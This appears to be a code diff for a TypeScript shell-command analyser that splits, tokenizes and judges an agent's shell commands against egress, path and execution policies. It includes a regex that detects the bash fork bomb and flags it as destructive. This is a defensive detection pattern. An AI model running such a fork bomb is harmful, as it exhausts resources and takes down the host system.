     }
     if (file) {
-      walkStmts(list(file['Stmts']), walk);
+      runStmts(list(file['Stmts']), walk);
       return;
     }
   }
-  walkSplit(script, walk);
+  walkSplit(script, walk, true);
   if (/:\s*\(\s*\)\s*\{\s*:\s*\|\s*:\s*&/.test(script)) destructive(walk, 'fork bomb', 'function ":"');
 }
 
 /** The parser walk's steps for a script the linear reader could take, in the same order. */
 function walkSimple(statements: SimpleStatement[], walk: Walk): void {
-  let previous: ShWord[] = [];
+  let output: Stream | undefined;
   for (const stmt of statements) {
-    for (const redirect of stmt.redirects) judgeRedirect(redirect, walk);
-    for (const value of stmt.assigns) judgePathsInText(value, walk);
-    if (stmt.words.length > 0)
-      judgeCommand(stmt.words, walk, stmt.piped ? printedLiteral(previous) : undefined);
-    previous = stmt.words;
+    let stdin = stmt.piped ? output : undefined;
+    for (const redirect of stmt.redirects) {
+      const target =
+        expandSimpleWord(
+          { text: redirect.target, dynamic: false, parts: [{ lit: redirect.target }] },
+          walk,
+        )[0]?.text ?? '';
+      judgeRedirect(redirect.kind, target, walk);
+      if (redirect.kind === 'in') stdin = { files: [target] };
+    }
+    const fields: Field[] = [];
+    for (const word of stmt.words) fields.push(...expandSimpleWord(word, walk));
+    for (const a of stmt.assigns) {
+      const value = valueOfFields(expandSimpleWord(a.value, walk, false));
+      judgePathsInText(value.text, walk);
+      assign(walk, a.name, value);
+    }
+    output = stmt.words.length > 0 ? judgeCommand(fields, walk, stdin) : undefined;
   }
 }
 
@@ -734,100 +2217,236 @@ const RESERVED_WORDS = new Set([
   '}',
 ]);
 
-function walkSplit(script: string, walk: Walk): void {
-  let previous: ShWord[] = [];
-  for (const { words, pipedIn } of splitWords(script)) {
-    const stdin = pipedIn ? printedLiteral(previous) : undefined;
-    previous = words;
+/**
+ * The linear reading: no expansion is resolved, so a word that still holds one in command
+ * position is opaque when `unresolved` (the script was too large for the parser).
+ */
+function walkSplit(script: string, walk: Walk, unresolved = false): void {
+  let output: Stream | undefined;
+  // Nothing is resolved here, so the same text judges the same: each distinct command once.
+  const seen = new Set<string>();
+  for (const { raw, pipedIn } of splitCommands(script)) {
+    const key = pipedIn ? `|${raw}` : raw;
+    if (seen.has(key)) {
+      if (!pipedIn) output = undefined;
+      continue;
+    }
+    if (seen.size < 100_000) seen.add(key);
+    const words = tokenize(raw);
+    const stdin = pipedIn ? output : undefined;
     let start = 0;
     while (start < words.length) {
       const text = words[start]!.text;
       if (RESERVED_WORDS.has(text)) start++;
       else if (/^[A-Za-z_][A-Za-z0-9_]*=/.test(text)) {
-        judgePathsInText(text.slice(text.indexOf('=') + 1), walk);
+        const value = text.slice(text.indexOf('=') + 1);
+        judgePathsInText(value, walk);
+        assign(walk, text.slice(0, text.indexOf('=')), {
+          text: value,
+          known: !words[start]!.dynamic && !unresolved,
+        });
         start++;
       } else break;
     }
-    if (start < words.length) judgeCommand(words.slice(start), walk, stdin);
+    const fields = words.slice(start).map((w) => ({ text: w.text, dynamic: w.dynamic }));
+    if (unresolved && fields[0]?.text.includes('$')) fields[0] = { ...fields[0], dynamic: true };
+    output = fields.length > 0 ? judgeCommand(fields, walk, stdin) : undefined;
   }
 }
 
+const QUOTE_SINGLE = 39;
+const QUOTE_DOUBLE = 34;
+const BACKSLASH = 92;
+const HASH = 35;
+const DOLLAR = 36;
+const PIPE = 124;
+
 /**
- * Quote-aware splitter into simple commands at `;`, `&`, `|`, newlines, parentheses and
- * back-ticks: the fallback for scripts the parser rejects or that are too large for it.
+ * Quote-aware split into simple commands at `;`, `&`, `|`, newlines, parentheses, back-ticks and
+ * `$(`: the fallback for scripts the parser rejects or that are too large for it. It slices the
+ * script and allocates nothing per character, so a megabyte costs a few milliseconds.
  */
-export function splitWords(script: string): { words: ShWord[]; pipedIn: boolean }[] {
-  const commands: { words: ShWord[]; pipedIn: boolean }[] = [];
+function splitCommands(script: string): { raw: string; pipedIn: boolean }[] {
+  const commands: { raw: string; pipedIn: boolean }[] = [];
+  let start = 0;
   let pipedIn = false;
-  let words: ShWord[] = [];
+  let wordStart = true;
+  // One helper object, not a closure per call: the loader names closures at a cost.
+  const at = {
+    end(stop: number, skip: number, pipe: boolean) {
+      const raw = script.slice(start, stop).trim();
+      if (raw !== '') commands.push({ raw, pipedIn });
+      if (raw !== '' || !pipe) pipedIn = pipe;
+      start = stop + skip;
+      wordStart = true;
+    },
+  };
+  for (let i = 0; i < script.length; i++) {
+    const c = script.charCodeAt(i);
+    if (c === QUOTE_SINGLE || c === QUOTE_DOUBLE) {
+      const close = script.indexOf(c === QUOTE_SINGLE ? "'" : '"', i + 1);
+      i = close < 0 ? script.length : close;
+      wordStart = false;
+    } else if (c === BACKSLASH) {
+      i++;
+      wordStart = false;
+    } else if (c === HASH && wordStart) {
+      const newline = script.indexOf('\n', i);
+      const stop = newline < 0 ? script.length : newline;
+      at.end(i, stop - i, false);
+      i = stop - 1;
+    } else if (c === 32 || c === 9) {
+      wordStart = true;
+    } else if (c === PIPE && script.charCodeAt(i + 1) !== PIPE && script.charCodeAt(i - 1) !== PIPE) {
+      at.end(i, 1, true);
+    } else if (c === 59 || c === 38 || c === PIPE || c === 10 || c === 40 || c === 41 || c === 96) {
+      at.end(i, 1, false);
+    } else if (c === DOLLAR && script.charCodeAt(i + 1) === 40) {
+      at.end(i, 2, false);
+      i++;
+    } else {
+      wordStart = false;
+    }
+  }
+  at.end(script.length, 0, false);
+  return commands;
+}
+
+/** The words of one simple command from splitCommands: quotes removed, `$` marks unknowns. */
+function tokenize(raw: string): { text: string; dynamic: boolean }[] {
+  const words: { text: string; dynamic: boolean }[] = [];
   let word = '';
   let inWord = false;
   let dynamic = false;
-  // Methods rather than arrow functions: named closures cost a defineProperty per call here.
-  const at = {
-    endWord() {
+  for (let i = 0; i < raw.length; i++) {
+    const ch = raw[i]!;
+    if (ch === "'" || ch === '"') {
+      const close = raw.indexOf(ch, i + 1);
+      const stop = close < 0 ? raw.length : close;
+      word += raw.slice(i + 1, stop);
+      inWord = true;
+      i = stop;
+    } else if (ch === '\\' && i + 1 < raw.length) {
+      word += raw[i + 1];
+      inWord = true;
+      i++;
+    } else if (ch === ' ' || ch === '\t' || ch === '\r') {
       if (inWord) words.push({ text: word, dynamic });
       word = '';
       inWord = false;
       dynamic = false;
-    },
-    endCommand(pipe = false) {
-      at.endWord();
-      if (words.length > 0) commands.push({ words, pipedIn });
-      words = [];
-      pipedIn = pipe;
-    },
-  };
-  for (let i = 0; i < script.length; i++) {
-    const ch = script[i]!;
-    if (ch === "'" || ch === '"') {
-      const end = script.indexOf(ch, i + 1);
-      const stop = end < 0 ? script.length : end;
-      word += script.slice(i + 1, stop);
-      inWord = true;
-      i = stop;
-    } else if (ch === '\\' && i + 1 < script.length) {
-      word += script[i + 1];
-      inWord = true;
-      i++;
-    } else if (ch === ' ' || ch === '\t') {
-      at.endWord();
-    } else if (ch === '|' && script[i + 1] !== '|' && script[i - 1] !== '|') {
-      at.endCommand(true);
-    } else if (';&|\n()`'.includes(ch)) {
-      at.endCommand();
-    } else if (ch === '$' && script[i + 1] === '(') {
-      at.endCommand();
-      i++;
     } else {
       if (ch === '$') dynamic = true;
       word += ch;
       inWord = true;
     }
   }
-  at.endCommand();
-  return commands;
+  if (inWord) words.push({ text: word, dynamic });
+  return words;
+}
+
+/** The linear reading of a script: its simple commands and their words. */
+export function splitWords(
+  script: string,
+): { words: { text: string; dynamic: boolean }[]; pipedIn: boolean }[] {
+  return splitCommands(script).map(({ raw, pipedIn }) => ({ words: tokenize(raw), pipedIn }));
+}
+
+type ShellOptions = {
+  egress?: EgressSettings;
+  paths?: PathContext;
+  catalogue?: CatalogueContext;
+  execution?: ExecutionSettings;
+  cwd?: string;
+  /** Environment the command runs with (`shell.exec` payload `env`): its values are known. */
+  env?: Record<string, string>;
+  /** False sends the top-level script to mvdan/sh even when a linear reader could take it. */
+  fastPaths?: boolean;
+};
+
+/**
+ * Analyses remembered per account policy (its egress, catalogue and execution objects, which
+ * stay the same while the policy is cached) for the 1,000 most recent commands of at most 4 KiB:
+ * agents repeat the same commands, and the result depends on nothing else when no cwd or env
+ * is given.
+ */
+const remembered = new WeakMap<
+  EgressSettings,
+  WeakMap<CatalogueContext, WeakMap<ExecutionSettings, (command: string) => readonly Finding[]>>
+>();
+
+function rememberedFor(
+  egress: EgressSettings,
+  catalogue: CatalogueContext,
+  execution: ExecutionSettings,
+): (command: string) => readonly Finding[] {
+  let byCatalogue = remembered.get(egress);
+  if (byCatalogue === undefined) {
+    byCatalogue = new WeakMap();
+    remembered.set(egress, byCatalogue);
+  }
+  let byExecution = byCatalogue.get(catalogue);
+  if (byExecution === undefined) {
+    byExecution = new WeakMap();
+    byCatalogue.set(catalogue, byExecution);
+  }
+  let analyze = byExecution.get(execution);
+  if (analyze === undefined) {
+    analyze = memoizeText(
+      (command) =>
+        Object.freeze(analyzeOnce(command, { egress, catalogue, execution }).map((f) => Object.freeze(f))),
+      { capacity: 1000, maxLength: 4096 },
+    );
+    byExecution.set(execution, analyze);
+  }
+  return analyze;
 }
 
 /** Findings for a shell.exec command line. */
-export function analyzeShell(
-  command: string,
-  options: {
-    egress?: EgressSettings;
-    paths?: PathContext;
-    cwd?: string;
-    /** False sends the top-level script to mvdan/sh even when a linear reader could take it. */
-    fastPaths?: boolean;
-  } = {},
-): Finding[] {
+export function analyzeShell(command: string, options: ShellOptions = {}): Finding[] {
+  if (
+    options.cwd === undefined &&
+    options.env === undefined &&
+    options.fastPaths !== false &&
+    (options.paths === undefined || options.paths === DEFAULT_PATH_CONTEXT)
+  ) {
+    const analyze = rememberedFor(
+      options.egress ?? DEFAULT_EGRESS_SETTINGS,
+      options.catalogue ?? DEFAULT_CATALOGUE_CONTEXT,
+      options.execution ?? DEFAULT_EXECUTION_SETTINGS,
+    );
+    return [...analyze(command)];
+  }
+  return analyzeOnce(command, options);
+}
+
+function analyzeOnce(command: string, options: ShellOptions): Finding[] {
   const base = options.paths ?? DEFAULT_PATH_CONTEXT;
   const paths = options.cwd ? { ...base, workspace: normalizePath(options.cwd, base) } : base;
+  // `$0` of a command line is the shell that runs it.
+  const scope = newScope([{ text: 'sh', dynamic: false }]);
+  for (const [name, value] of Object.entries(options.env ?? {})) {
+    if (typeof value === 'string') {
+      scope.vars ??= new Map();
+      scope.vars.set(name, { text: value.slice(0, MAX_DECODED), known: true });
+    }
+  }
   const walk: Walk = {
-    ctx: { egress: options.egress ?? DEFAULT_EGRESS_SETTINGS, paths },
+    ctx: {
+      egress: options.egress ?? DEFAULT_EGRESS_SETTINGS,
+      paths,
+      cwd: paths,
+      catalogue: options.catalogue ?? DEFAULT_CATALOGUE_CONTEXT,
+      execution: options.execution ?? DEFAULT_EXECUTION_SETTINGS,
+    },
     findings: [],
     depth: 0,
+    scope,
+    budget: { commands: 0, parsed: 0, exhausted: false },
   };
   if (options.cwd) judgePath(options.cwd, walk, false);
+  for (const value of Object.values(options.env ?? {}))
+    if (typeof value === 'string') judgePathsInText(value, walk);
   parseAndWalk(command, walk, options.fastPaths ?? true);
   return walk.findings;
 }
